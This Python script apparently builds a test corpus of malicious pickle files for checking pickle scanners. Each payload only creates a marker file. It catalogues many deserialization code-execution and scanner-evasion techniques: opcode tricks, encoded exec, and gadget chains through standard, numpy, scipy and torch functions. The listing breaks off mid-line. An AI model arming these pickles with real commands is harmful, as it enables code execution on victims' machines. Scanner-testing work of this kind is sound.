"""Makes malicious pickles that do something harmless: each makes the file named by GAMBESON_MARKER when it is loaded.

    python make.py FOLDER

Writes the pickles and manifest.csv: file, family, loader, needs. They are never loaded here; confirm.py does that, in
a process of its own in an empty folder, and writes down which of them really did it.
"""

import base64
import csv
import marshal
import os
import pickle
import re
import struct
import sys
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from opcodes import Raw, call, item, name, pickled, stacked, text  # noqa: E402

SHELL = ': > "$GAMBESON_MARKER"'
PYTHON = "open(__import__('os').environ['GAMBESON_MARKER'],'w').close()"
MARK = Raw(call("os", "getenv", "GAMBESON_MARKER"))
# A path that the shell never sees: confirm.py starts in a folder of its own, and a file there counts as well.
PATH = "marker"
ARGS = ["/bin/sh", "-c", SHELL]
FILES = []


def add(family, label, data, loader="pickle", needs=""):
    FILES.append((family, label, data, loader, needs))


SYSTEM = name("os", "system")
ARG = item((SHELL,))


def opcodes():
    cases = {
        "global-reduce-0": b"cos\nsystem\n(S'" + SHELL.encode().replace(b"'", b"\\'") + b"'\ntR.",
        "global-unicode-0": b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
        "inst": b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.",
        "inst-marks": b"(((S'" + SHELL.encode() + b"'\nios\nsystem\nt.",
        "obj": b"\x80\x02(" + SYSTEM + text(SHELL) + b"o.",
        "obj-proto4": b"\x80\x04(" + stacked("posix", "system") + text(SHELL) + b"o.",
        "newobj": b"\x80\x04" + name("subprocess", "Popen") + item((ARGS,)) + b"\x81" + name("subprocess", "Popen") + item((ARGS,)) + b"R.",
        "obj-popen": b"\x80\x04(" + name("subprocess", "Popen") + item(ARGS) + b"o.",
        "stack-global": pickled(stacked("os", "system") + ARG + b"R"),
        "stack-global-memo": b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x94" + b"0" + b"0" + b"h\x00h\x01\x93" + ARG + b"R.",
        "stack-global-binput": b"\x80\x04" + text("system") + b"q\x05" + b"0" + text("os") + b"h\x05\x93" + ARG + b"R.",
        "stack-global-long-get": b"\x80\x04" + text("system") + b"r\x10\x00\x00\x00" + b"0" + text("os") + b"j\x10\x00\x00\x00\x93" + ARG + b"R.",
        "stack-global-text-get": b"\x80\x04" + text("system") + b"p77\n" + b"0" + text("os") + b"g77\n\x93" + ARG + b"R.",
        "stack-global-string": b"\x80\x04S'os'\nS'system'\n\x93" + ARG + b"R.",
        "stack-global-binstring": b"\x80\x04T\x02\x00\x00\x00osU\x06system\x93" + ARG + b"R.",
        "stack-global-unicode8": b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93" + ARG + b"R.",
        "stack-global-escapes": b"\x80\x04V\\u006fs\nVsyst\\u0065m\n\x93" + ARG + b"R.",
        "stack-global-string-escapes": b"\x80\x04S'\\x6fs'\nS'sys\\x74em'\n\x93" + ARG + b"R.",
        "stack-global-dup": b"\x80\x04" + text("posix") + b"2" + b"0" + text("system") + b"\x93" + ARG + b"R.",
        "memo-overwritten": b"\x80\x04" + text("len") + b"q\x00" + b"0" + text("system") + b"q\x00" + b"0" + text("os") + b"h\x00\x93" + ARG + b"R.",
        "function-memo": b"\x80\x02" + SYSTEM + b"q\x01" + b"0" + b"h\x01" + ARG + b"R.",
        "function-memo-far": b"\x80\x02" + SYSTEM + b"r\xff\xff\x00\x00" + b"0" + b"j\xff\xff\x00\x00" + ARG + b"R.",
        "arguments-memo": b"\x80\x02" + ARG + b"q\x02" + b"0" + SYSTEM + b"h\x02R.",
        "popped": b"\x80\x04" + SYSTEM + ARG + b"R0" + item({"weights": [1.0, 2.0]}) + b".",
        "popped-mark": b"\x80\x04(" + SYSTEM + ARG + b"R1" + item({"weights": [1.0]}) + b".",
        "in-list": b"\x80\x04](" + item(1) + SYSTEM + ARG + b"R" + b"e.",
        "in-dict-value": b"\x80\x04}(" + text("bias") + SYSTEM + ARG + b"Ru.",
        "in-dict-key": b"\x80\x04}(" + SYSTEM + ARG + b"R" + text("v") + b"u.",
        "in-set": b"\x80\x04\x8f(" + SYSTEM + ARG + b"R\x90.",
        "in-frozenset": b"\x80\x04(" + SYSTEM + ARG + b"R\x91.",
        "in-tuple": b"\x80\x04" + item(1) + SYSTEM + ARG + b"R\x86.",
        "in-tuple3": b"\x80\x04" + item(1) + item(2) + SYSTEM + ARG + b"R\x87.",
        "deep": b"\x80\x04" + b"]" * 50 + SYSTEM + ARG + b"R" + b"a" * 50 + b".",
        "dup-function": b"\x80\x04" + SYSTEM + b"2" + ARG + b"R" + b"0" + b"0" + item({}) + b".",
        "mark-noise": b"\x80\x04" + b"(" * 40 + SYSTEM + ARG + b"R" + b".",
        "no-protocol": SYSTEM + b"(" + b"X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"tR.",
        "protocol-twice": b"\x80\x04\x80\x02" + SYSTEM + ARG + b"R.",
        "protocol-late": SYSTEM + b"\x80\x04" + ARG + b"R.",
        "protocol-0-byte": b"\x80\x00" + SYSTEM + ARG + b"R.",
        "protocol-5": b"\x80\x05" + stacked("os", "system") + ARG + b"R.",
        "no-stop": b"\x80\x04" + SYSTEM + ARG + b"R",
        "broken-after": b"\x80\x04" + SYSTEM + ARG + b"R\xff\xff\xff",
        "broken-pop-after": b"\x80\x04" + SYSTEM + ARG + b"R00000000.",
        "broken-memo-after": b"\x80\x04" + SYSTEM + ARG + b"Rg999999\n.",
        "junk-tail": pickled(SYSTEM + ARG + b"R") + b"PK\x03\x04 some bytes behind it" * 3,
        "big-frame": b"\x80\x04" + SYSTEM + ARG + b"R.",
        "frame-exact": framed(stacked("os", "system") + ARG + b"R."),
        "frame-short": b"\x80\x04\x95" + struct.pack("<Q", 4) + stacked("os", "system") + ARG + b"R.",
        "frame-zero": b"\x80\x04\x95" + struct.pack("<Q", 0) + stacked("os", "system") + ARG + b"R.",
        "frame-straddles-name": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"cos\nsystem\n" + ARG + b"R.",
        "frames-many": b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", 1) + part for part in [b"N", b"0"] * 5) + stacked("os", "system") + ARG + b"R.",
        "long-comment": b"\x80\x04" + text("x" * 200) * 30 + b"0" * 29 + SYSTEM + ARG + b"R.",
        "after-zeros": b"\x80\x04B" + struct.pack("<I", 100_000) + bytes(100_000) + b"0" + SYSTEM + ARG + b"R.",
        "after-many": b"\x80\x04](" + b"K\x01" * 20_000 + b"e0" + SYSTEM + ARG + b"R.",
        "long-argument": b"\x80\x04" + SYSTEM + item((SHELL + " # " + "x" * 5000,)) + b"R.",
        "bytearray-noise": b"\x80\x05\x96" + struct.pack("<Q", 5) + b"aaaaa0" + SYSTEM + ARG + b"R.",
        "int-overflow-memo": b"\x80\x02" + SYSTEM + b"p123456\n0g123456\n" + ARG + b"R.",
        "reduce-twice": b"\x80\x04" + call("os", "getpid")  + b"0" + SYSTEM + ARG + b"R.",
        "build-on-result": b"\x80\x04" + name("subprocess", "Popen") + item((ARGS,)) + b"R" + item({"weights": 1}) + b"b.",
        "newobj-ex": b"\x80\x04" + name("builtins", "object") + b")}\x92" + b"0" + SYSTEM + ARG + b"R.",
        "quoted-double": b'cos\nsystem\n(S": > $GAMBESON_MARKER"\ntR.',
        "crlf-free-spaces": b"\x80\x02" + b"(N0" + b"N0" * 100 + SYSTEM + ARG + b"R" + b".",
    }
    for label, data in cases.items():
        add("opcodes", label, data)
    second = pickled(SYSTEM + ARG + b"R")
    honest = pickle.dumps({"weights": [1.0, 2.0]})
    add("streams", "second", honest + second, "pickle-all")
    add("streams", "third", honest + honest + second, "pickle-all")
    add("streams", "first", second + honest, "pickle-all")
    add("streams", "second-protocol-0", pickle.dumps([1], 0) + b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.", "pickle-all")


def framed(body):
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


CODE = marshal.dumps(compile(PYTHON, "x", "exec"))
INNER = pickled(SYSTEM + ARG + b"R")
IMPORT_OS = Raw(call("importlib", "import_module", "os"))


def functions():
    """(module, name, arguments): one call does it."""
    plain = [
        ("os", "system", SHELL), ("posix", "system", SHELL), ("os", "popen", SHELL), ("os", "spawnl", 0, "/bin/sh", "sh", "-c", SHELL),
        ("os", "spawnv", 0, "/bin/sh", ["sh", "-c", SHELL]), ("os", "spawnlp", 0, "sh", "sh", "-c", SHELL),
        ("os", "spawnvp", 0, "sh", ["sh", "-c", SHELL]), ("os", "execv", "/bin/sh", ARGS), ("os", "execl", "/bin/sh", "sh", "-c", SHELL),
        ("os", "execvp", "sh", ARGS), ("os", "execlp", "sh", "sh", "-c", SHELL), ("posix", "execv", "/bin/sh", ARGS),
        ("os", "mkdir", PATH), ("os", "makedirs", PATH), ("posix", "mkdir", PATH), ("os", "open", PATH, 65), ("posix", "open", PATH, 65),
        ("os", "mkfifo", PATH), ("os", "symlink", "/dev/null", PATH), ("os", "mknod", PATH),
        ("subprocess", "Popen", ARGS), ("subprocess", "call", ARGS), ("subprocess", "run", ARGS), ("subprocess", "check_call", ARGS),
        ("subprocess", "check_output", ARGS), ("subprocess", "getoutput", SHELL), ("subprocess", "getstatusoutput", SHELL),
        ("builtins", "exec", PYTHON), ("builtins", "eval", PYTHON), ("builtins", "open", PATH, "w"), ("io", "open", PATH, "w"),
        ("_io", "open", PATH, "w"), ("_io", "FileIO", PATH, "w"), ("io", "FileIO", PATH, "w"), ("_pyio", "open", PATH, "w"), ("codecs", "open", PATH, "w"),
        ("pty", "spawn", ARGS), ("timeit", "timeit", PYTHON, "pass", Raw(name("time", "perf_counter")), 1),
        ("timeit", "repeat", PYTHON), ("timeit", "main", ["-n", "1", "-r", "1", PYTHON]), ("cProfile", "run", PYTHON),
        ("cProfile", "runctx", PYTHON, {}, {}), ("profile", "run", PYTHON), ("profile", "runctx", PYTHON, {}, {}),
        ("shutil", "copyfile", "/dev/null", PATH),
        ("shutil", "copy", "/etc/hostname", PATH), ("shutil", "make_archive", PATH, "tar"), ("tempfile", "mkdtemp", "marker", "marker", "."),
        ("tempfile", "mkstemp", "marker", "marker", "."), ("logging", "FileHandler", PATH), ("logging.handlers", "RotatingFileHandler", PATH),
        ("logging.handlers", "TimedRotatingFileHandler", PATH), ("sqlite3", "connect", PATH), ("_sqlite3", "connect", PATH), ("shelve", "open", PATH),
        ("dbm.dumb", "open", PATH, "c"), ("dbm", "open", PATH, "c"), ("zipfile", "ZipFile", PATH, "w"), ("tarfile", "open", PATH, "w"),
        ("gzip", "open", PATH, "w"), ("bz2", "open", PATH, "w"), ("lzma", "open", PATH, "w"), ("bz2", "BZ2File", PATH, "w"),
        ("gzip", "GzipFile", PATH, "w"), ("lzma", "LZMAFile", PATH, "w"), ("wave", "open", PATH, "wb"),
        ("pickle", "loads", INNER), ("_pickle", "loads", INNER), ("pickle", "_loads", INNER),
        ("dill", "loads", INNER), ("cloudpickle", "loads", INNER), ("imaplib", "IMAP4_stream", SHELL),
        ("uuid", "_get_command_stdout", "sh", "-c", SHELL), ("pydoc", "pipepager", "text", SHELL),
        ("pydoc", "tempfilepager", "text", SHELL + " #"), ("distutils.spawn", "spawn", ARGS), ("distutils.file_util", "write_file", PATH, ["a"]),
        ("distutils.dir_util", "mkpath", PATH), ("distutils.file_util", "copy_file", "/etc/hostname", PATH),
        ("py_compile", "compile", "/dev/null", PATH), ("runpy", "_run_code", Raw(call("builtins", "compile", PYTHON, "x", "exec")), {}),
        ("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"sh", b"-c", SHELL.encode()], []),
        ("numpy.testing._private.utils", "runstring", PYTHON, {}), ("numpy", "save", PATH, 1), ("numpy", "savetxt", PATH, [1.0]), ("numpy", "savez", PATH, 1),
        ("numpy", "memmap", PATH, "uint8", "w+", 0, (1,)), ("numpy.lib.format", "open_memmap", PATH, "w+", "uint8", None, (1,)),
        ("joblib", "dump", 1, PATH), ("joblib.numpy_pickle", "dump", 1, PATH),
        ("joblib.externals.cloudpickle", "loads", INNER), ("joblib.disk", "mkdirp", PATH),
        ("pandas", "read_pickle", Raw(call("io", "BytesIO", INNER))), ("pandas.io.pickle", "read_pickle", Raw(call("io", "BytesIO", INNER))),
        ("joblib", "load", Raw(call("io", "BytesIO", INNER))), ("joblib.numpy_pickle", "load", Raw(call("io", "BytesIO", INNER))),
        ("pandas.io.common", "get_handle", PATH, "w"), ("scipy.io", "savemat", PATH, {"a": 1}),
        ("scipy.io.wavfile", "write", PATH, 8000, Raw(call("numpy", "zeros", 3))),
        ("scipy.io", "netcdf_file", PATH, "w"), ("sklearn.datasets", "dump_svmlight_file", [[1.0]], [1.0], PATH),
        ("venv", "create", PATH),
        ("setuptools._distutils.spawn", "spawn", ARGS),
        ("pip._internal.cli.main", "main", ["config", "list", "--log", PATH]), ("pip", "main", ["config", "list", "--log", PATH]),
        ("lib2to3.pgen2.grammar", "Grammar.loads", Raw(call("lib2to3.pgen2.grammar", "Grammar")), INNER),
        ("test.support.script_helper", "assert_python_ok", "-c", PYTHON), ("test.support.script_helper", "run_python_until_end", "-c", PYTHON) ,
        ("test.support.script_helper", "spawn_python", "-c", PYTHON),
        ("csv", "writer", Raw(call("builtins", "open", PATH, "w"))),
        ("builtins", "__import__", "payload"), ("importlib", "import_module", "payload"),
        ("importlib", "__import__", "payload"), ("runpy", "run_module", "payload"), ("runpy", "run_path", "payload.py"), ("pkgutil", "resolve_name", "payload:x"),
        ("imp", "load_source", "payload", "payload.py"), ("pydoc", "importfile", "payload.py"), ("pydoc", "locate", "payload"), ("pydoc", "safeimport", "payload"),
        ("doctest", "testfile", "payload.txt", False), ("site", "addsitedir", "sites"), ("site", "addpackage", "sites", "x.pth", None),
        ("distutils.core", "run_setup", "payload.py"), ("importlib.machinery", "SourceFileLoader.load_module", Raw(call("importlib.machinery", "SourceFileLoader", "payload", "payload.py"))),
        ("zipimport", "zipimporter.load_module", Raw(call("zipimport", "zipimporter", "payload.zip")), "payload"),
        ("dill._dill", "_import_module", "payload"), ("cloudpickle.cloudpickle", "subimport", "payload"),
        ("joblib.externals.cloudpickle.cloudpickle", "subimport", "payload"), ("statsmodels.iolib.smpickle", "load_pickle", Raw(call("io", "BytesIO", INNER))),
        ("pickle", "_load", Raw(call("io", "BytesIO", INNER))),
        ("pickle", "load", Raw(call("io", "BytesIO", INNER))), ("_pickle", "load", Raw(call("io", "BytesIO", INNER))),
        ("shutil", "copytree", "sites", PATH), ("shutil", "move", "payload.txt", PATH), ("os", "rename", "payload.txt", PATH), ("os", "replace", "payload.txt", PATH), ("os", "link", "payload.txt", PATH),
        ("numpy.distutils.exec_command", "exec_command", SHELL), ("bdb", "Bdb.run", Raw(call("bdb", "Bdb")), PYTHON),
        ("code", "InteractiveInterpreter.runcode", Raw(call("code", "InteractiveInterpreter")), PYTHON), ("code", "InteractiveInterpreter.runsource", Raw(call("code", "InteractiveInterpreter")), PYTHON, "x", "exec"),
        ("cProfile", "Profile.run", Raw(call("cProfile", "Profile")), PYTHON), ("profile", "Profile.run", Raw(call("profile", "Profile")), PYTHON),
        ("trace", "Trace.run", Raw(call("trace", "Trace", 0, 0)), PYTHON), ("timeit", "Timer.timeit", Raw(call("timeit", "Timer", PYTHON)), 1),
        ("pathlib", "Path.touch", Raw(call("pathlib", "PosixPath", PATH))), ("pathlib", "Path.write_text", Raw(call("pathlib", "PosixPath", PATH)), "x"), ("pathlib", "Path.mkdir", Raw(call("pathlib", "PosixPath", PATH))),
        ("pathlib", "os.system", SHELL), ("tempfile", "_os.system", SHELL), ("shutil", "os.system", SHELL), ("logging", "os.system", SHELL), ("zipfile", "os.system", SHELL),
        ("random", "_os.system", SHELL), ("glob", "os.system", SHELL), ("inspect", "os.system", SHELL), ("uuid", "os.system", SHELL), ("platform", "os.system", SHELL), ("numpy.lib._datasource", "os.system", SHELL), ("joblib.disk", "os.system", SHELL),
        ("joblib.parallel", "os.system", SHELL), ("pandas.io.common", "codecs.open", PATH, "w"), ("numpy.testing._private.utils", "os.system", SHELL), ("scipy._lib._testutils", "os.system", SHELL), ("pydoc", "os.system", SHELL),
    ]
    for entry in plain:
        module, qualified, arguments = entry[0], entry[1], entry[2:]
        label = module + "." + qualified
        body = stacked(module, qualified) + item(tuple(arguments)) + b"R"
        add("functions", label, pickled(body))
        if "." not in qualified and not any(isinstance(part, Raw) for part in arguments) and len(FILES) % 3 == 0:
            add("functions", label + "-2", pickled(name(module, qualified) + item(tuple(arguments)) + b"R", 2))


def gadgets():
    """Attacks of several steps, each of which looks harmless by itself."""
    getattr_system = call("builtins", "getattr", IMPORT_OS, "system")
    cases = {
        "getattr-import": getattr_system + ARG + b"R",
        "getattr-module-attribute": name("builtins", "getattr") + b"(" + name("pathlib", "os") + text("system") + b"tR" + ARG + b"R",
        "getattr-numpy-builtins": name("builtins", "getattr") + b"(" + name("numpy", "__builtins__") + text("get") + b"tR" + item(("eval",)) + b"R" + item((PYTHON,)) + b"R",
        "getattr-object-class": name("builtins", "getattr") + b"(" + name("builtins", "len") + text("__self__") + b"tR0" + getattr_system + ARG + b"R",
        "attrgetter": call("operator", "attrgetter", "system") + item((IMPORT_OS,)) + b"R" + ARG + b"R",
        "_attrgetter": call("_operator", "attrgetter", "system") + item((IMPORT_OS,)) + b"R" + ARG + b"R",
        "methodcaller": call("operator", "methodcaller", "system", SHELL) + item((IMPORT_OS,)) + b"R",
        "_methodcaller": call("_operator", "methodcaller", "system", SHELL) + item((IMPORT_OS,)) + b"R",
        "itemgetter-builtins": call("operator", "itemgetter", "eval") + b"(" + name("numpy", "__builtins__") + b"tR" + item((PYTHON,)) + b"R",
        "operator-call": name("operator", "call") + b"(" + SYSTEM + text(SHELL) + b"tR",
        "partial": name("functools", "partial") + b"(" + SYSTEM + text(SHELL) + b"tR)R",
        "partial-state": name("functools", "partial") + b"(" + name("builtins", "len") + b"tR(" + SYSTEM + item((SHELL,)) + b"}Ntb)R",
        "partial-later": name("functools", "partial") + b"(" + SYSTEM + b"tR" + ARG + b"R",
        "partial-newobj": name("functools", "partial") + b"(" + SYSTEM + text(SHELL) + b"t\x81)R",
        "reduce-function": name("functools", "reduce") + b"(" + name("os", "spawnvp") + item([0]) + b"tR0" + SYSTEM + ARG + b"R",
        "map-list": name("builtins", "list") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "map-tuple": name("builtins", "tuple") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "map-set": name("builtins", "set") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "map-deque": name("collections", "deque") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "map-bytes": name("builtins", "bytes") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "map-newobj": name("builtins", "list") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"t\x81tR",
        "map-appends": b"]" + name("collections", "deque") + b")R" + b"0" + name("collections", "deque") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "filter-list": name("builtins", "list") + b"(" + name("builtins", "filter") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "starmap": name("builtins", "list") + b"(" + name("itertools", "starmap") + b"(" + SYSTEM + item([(SHELL,)]) + b"tRtR",
        "sorted-key": name("functools", "partial") + b"(" + name("builtins", "sorted") + b"tR(" + name("builtins", "sorted") + item(([SHELL],)) + b"}" + text("key") + SYSTEM + b"s" + b"Ntb)R",
        "max-key": name("functools", "partial") + b"(" + name("builtins", "max") + b"tR(" + name("builtins", "max") + item(([SHELL, SHELL],)) + b"}" + text("key") + SYSTEM + b"s" + b"Ntb)R",
        "imap-python2": b"cbuiltins\nlist\n(citertools\nimap\n(" + SYSTEM + b"](" + b"X" + struct.pack("<I", len(SHELL)) + SHELL.encode() + b"etRtR",
        "eval-python2": b"c__builtin__\neval\n(V" + PYTHON.encode() + b"\ntR",
        "apply-commands": b"ccommands\ngetoutput\n(V" + SHELL.encode() + b"\ntR",
        "commands-status": b"ccommands\ngetstatusoutput\n(V" + SHELL.encode() + b"\ntR",
        "open-python2": b"c__builtin__\nopen\n(Vmarker\nVw\ntR",
        "cpickle-python2": b"ccPickle\nloads\n(" + item(INNER) + b"tR",
        "whichdb-python2": b"canydbm\nopen\n(Vmarker\nVc\ntR",
        "marshal-function": name("types", "FunctionType") + b"(" + call("marshal", "loads", CODE) + b"}tR)R",
        "code-function": name("types", "FunctionType") + b"(" + name("builtins", "compile") + item((PYTHON, "x", "exec")) + b"R}tR)R",
        "compile-exec": name("builtins", "exec") + b"(" + name("builtins", "compile") + item((PYTHON, "x", "exec")) + b"RtR",
        "compile-eval": name("builtins", "eval") + b"(" + name("builtins", "compile") + item((PYTHON, "x", "eval")) + b"RtR",
        "base64-exec": name("builtins", "exec") + b"(" + call("base64", "b64decode", base64.b64encode(PYTHON.encode()).decode()) + b"tR",
        "zlib-exec": name("builtins", "exec") + b"(" + call("zlib", "decompress", zlib.compress(PYTHON.encode())) + b"tR",
        "codecs-exec": name("builtins", "exec") + b"(" + call("codecs", "decode", base64.b64encode(PYTHON.encode()), "base64") + b"tR",
        "encode-rot13": name("builtins", "exec") + b"(" + call("codecs", "encode", __import__("codecs").encode(PYTHON, "rot13"), "rot13") + b"tR",
        "bytes-exec": name("builtins", "exec") + item((PYTHON.encode(),)) + b"R",
        "type-class": name("builtins", "type") + b"(" + text("X") + b")" + b"}" + text("__call__") + SYSTEM + b"stR0" + SYSTEM + ARG + b"R",
        "globals-builtins": call("builtins", "globals") + b"0" + call("builtins", "eval", PYTHON),
        "add-extension": call("copyreg", "add_extension", "os", "system", 240) + b"0\x82\xf0" + ARG + b"R",
        "add-extension-2": call("copyreg", "add_extension", "os", "system", 4000) + b"0\x83\xa0\x0f" + ARG + b"R",
        "add-extension-4": call("copyreg", "add_extension", "os", "system", 400000) + b"0\x84" + struct.pack("<i", 400000) + ARG + b"R",
        "setattr-class": getattr_system + ARG + b"R",
        "instance-setstate": name("types", "SimpleNamespace") + b")\x81}" + text("__setstate__") + SYSTEM + b"sb" + text(SHELL) + b"b",
        "instance-append": name("types", "SimpleNamespace") + b")\x81}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
        "instance-extend": name("types", "SimpleNamespace") + b")\x81}" + text("extend") + name("builtins", "list") + b"sb0" + SYSTEM + ARG + b"R",
        "instance-add": name("types", "SimpleNamespace") + b")\x81}" + text("add") + SYSTEM + b"sb(" + text(SHELL) + b"\x90",
        "estimator-setstate": name("sklearn.utils", "Bunch") + b")\x81" + b"0" + name("argparse", "Namespace") + b")\x81}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
        "exception-append": name("builtins", "ValueError") + b")R}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
        "exception-setstate-slots": name("builtins", "KeyError") + b")RN}" + text("append") + SYSTEM + b"s\x86" + b"0" + b"}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
        "build-on-function": name("numpy", "size") + b"N}" + text("x") + name("numpy", "__builtins__") + b"s\x86b0" + call("builtins", "eval", PYTHON),
        "build-on-class": name("argparse", "Namespace") + b"N}" + text("append") + SYSTEM + b"s\x86b)\x81" + text(SHELL) + b"a",
        "build-on-module": name("pathlib", "os") + b"N}" + text("getcwd") + name("os", "getpid") + b"s\x86b0" + SYSTEM + ARG + b"R",
        "build-defaults": name("posixpath", "join") + b"N}" + text("__defaults__") + item((1,)) + b"s\x86b0" + SYSTEM + ARG + b"R",
        "build-code": name("shutil", "which") + b"N}" + text("__name__") + text("x") + b"s\x86b0" + SYSTEM + ARG + b"R",
        "defaultdict-factory": name("collections", "defaultdict") + b"(" + name("os", "getpid") + b"tR0" + SYSTEM + ARG + b"R",
        "generator-constructor": name("numpy.random._pickle", "__generator_ctor") + b"(" + text(SHELL) + SYSTEM + b"tR",
        "randomstate-constructor": name("numpy.random._pickle", "__randomstate_ctor") + b"(" + text(SHELL) + SYSTEM + b"tR",
        "ufunc-reconstruct": name("numpy.core", "_ufunc_reconstruct") + item(("os", "system")) + b"R" + ARG + b"R",
        "iter-sentinel": name("collections", "deque") + b"(" + name("builtins", "iter") + b"(" + name("functools", "partial") + b"(" + SYSTEM + text(SHELL) + b"tRK\x00tRtR",
        "distribution-template": name("scipy.stats._continuous_distns", "norm_gen") + b")\x81" + item({"_parse_arg_template": "\n" + PYTHON + "\ndef _parse_args(self): pass\ndef _parse_args_rvs(self): pass\ndef _parse_args_stats(self): pass\n"}) + b"b",
        "distribution-second-key": name("scipy.stats._continuous_distns", "gamma_gen") + b")\x81}" + item("_parse_arg_template") + item("\ndef _parse_args(self,  loc=0, scale=1):\n") + b"s" + item("_parse_arg_template") + item(PYTHON) + b"sb",
        "distribution-discrete": name("scipy.stats._discrete_distns", "poisson_gen") + b")\x81" + item({"_parse_arg_template": PYTHON}) + b"b",
        "frozen-template": name("scipy.stats._distn_infrastructure", "rv_continuous") + b")\x81" + item({"_parse_arg_template": PYTHON}) + b"b",
        "map-ordereddict": name("collections", "OrderedDict") + b"(" + name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tRtR",
        "thread": call("threading", "Thread", None, Raw(SYSTEM), None, (SHELL,)) + b"0" + call("_thread", "start_new_thread", Raw(SYSTEM), (SHELL,)) + b"0" + call("time", "sleep", 0.3),
        "atexit": name("atexit", "register") + b"(" + SYSTEM + text(SHELL) + b"tR",
        "weakref-finalize": name("weakref", "finalize") + b"(" + name("argparse", "Namespace") + b")R" + SYSTEM + text(SHELL) + b"tR",
        "exit-stack": name("contextlib", "ExitStack.callback") + b"(" + call("contextlib", "ExitStack") + SYSTEM + text(SHELL) + b"tR" + b"0" + SYSTEM + ARG + b"R",
        "thread-pool": name("concurrent.futures.thread", "ThreadPoolExecutor.submit") + b"(" + call("concurrent.futures.thread", "ThreadPoolExecutor", 1) + SYSTEM + text(SHELL) + b"tR0" + call("time", "sleep", 0.3),
        "sys-modules": call("operator", "itemgetter", "os") + b"(" + name("sys", "modules") + b"tR0" + SYSTEM + ARG + b"R",
        "namedtuple": call("collections", "namedtuple", "x", "a") + b"0" + call("builtins", "exec", PYTHON),
        "pickle-unpickler": name("pickle", "Unpickler.load") + b"(" + name("pickle", "Unpickler") + b"(" + call("io", "BytesIO", INNER) + b"tRtR",
        "torch-build": name("collections", "OrderedDict") + b")R(" + text("weight") + SYSTEM + ARG + b"Ru",
        "resolve-name": call("pkgutil", "resolve_name", "os:system") + ARG + b"R",
        "resolve-name-dotted": call("pkgutil", "resolve_name", "os.system") + ARG + b"R",
        "pydoc-locate": call("pydoc", "locate", "os.system") + ARG + b"R",
        "logging-resolve": call("logging.config", "_resolve", "os.system") + ARG + b"R",
        "unittest-importer": call("unittest.mock", "_importer", "os.system") + ARG + b"R",
        "joblib-parallel": name("joblib._utils", "eval_expr") + item(("1+1",)) + b"R0" + SYSTEM + ARG + b"R",
        "pandas-eval": call("pandas.core.computation.eval", "eval", "1") + b"0" + SYSTEM + ARG + b"R",
        "numpy-apply": name("numpy", "vectorize") + b"(" + SYSTEM + b"tR" + item((SHELL,)) + b"R",
        "frompyfunc": name("numpy", "frompyfunc") + b"(" + SYSTEM + b"K\x01K\x01tR" + item((SHELL,)) + b"R",
        "fromfunction": call("numpy", "fromiter", Raw(name("builtins", "map") + b"(" + SYSTEM + item([SHELL]) + b"tR"), "int64"),
        "reconstructor-class": call("copyreg", "_reconstructor", Raw(name("argparse", "Namespace")), Raw(name("builtins", "object")), None) + b"}" + text("append") + SYSTEM + b"sb" + text(SHELL) + b"a",
        "reconstructor-popen": call("copyreg", "_reconstructor", Raw(name("subprocess", "Popen")), Raw(name("builtins", "object")), None) + b"0" + SYSTEM + ARG + b"R",
        "persistent": text("x") + b"0" + SYSTEM + ARG + b"R",
        "socket": call("socket", "socket") + b"0" + call("os", "mkdir", PATH),
        "environ": name("os", "environ") + text("X") + text("1") + b"s0" + call("os", "mkdir", PATH),
    }
    for label, body in cases.items():
        add("gadgets", label, pickled(body, 0 if "python2" in label or "commands" in label else 4))
    try:
        import cloudpickle
        add("gadgets", "cloudpickle-reduced", cloudpickle.dumps(Called(eval_later())), needs="cloudpickle")
    except Exception as problem:
        print("without cloudpickle", problem)


def torch():
    """Attacks with functions of PyTorch; confirm.py needs an environment that has it."""
    cases = {
        "load-from-bytes": call("torch.storage", "_load_from_bytes", INNER),
        "collect-env": call("torch.utils.collect_env", "run", SHELL),
        "rebuild-from-type": call("torch._tensor", "_rebuild_from_type_v2", Raw(SYSTEM), Raw(name("torch", "Tensor")), (SHELL,), {}),
        "rebuild-from-type-loads": call("torch._tensor", "_rebuild_from_type_v2", Raw(name("torch.storage", "_load_from_bytes")),
                                        Raw(name("torch", "Tensor")), (INNER,), {}),
        "exec-with-source": call("torch.fx.graph_module", "_exec_with_source", PYTHON, {}),
        "forward-from-source": call("torch.fx.graph_module", "_forward_from_src", PYTHON + "\nforward = 1", {}),
        "decoder": call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", INNER),
        "save": call("torch", "save", 1, PATH),
        "from-file": call("torch", "from_file", PATH, True, 4),
        "from-file-getattr": call("builtins", "getattr", Raw(name("torch._C", "_VariableFunctionsClass")), "from_file")
        + item((PATH, True, 4)) + b"R",
        "storage-from-file": call("torch", "UntypedStorage.from_file", PATH, True, 4),
        "file-baton": call("torch.utils.file_baton", "FileBaton.try_acquire", Raw(call("torch.utils.file_baton", "FileBaton", PATH))),
        "serialization-load": call("torch.serialization", "_legacy_load", Raw(call("io", "BytesIO", INNER)), None,
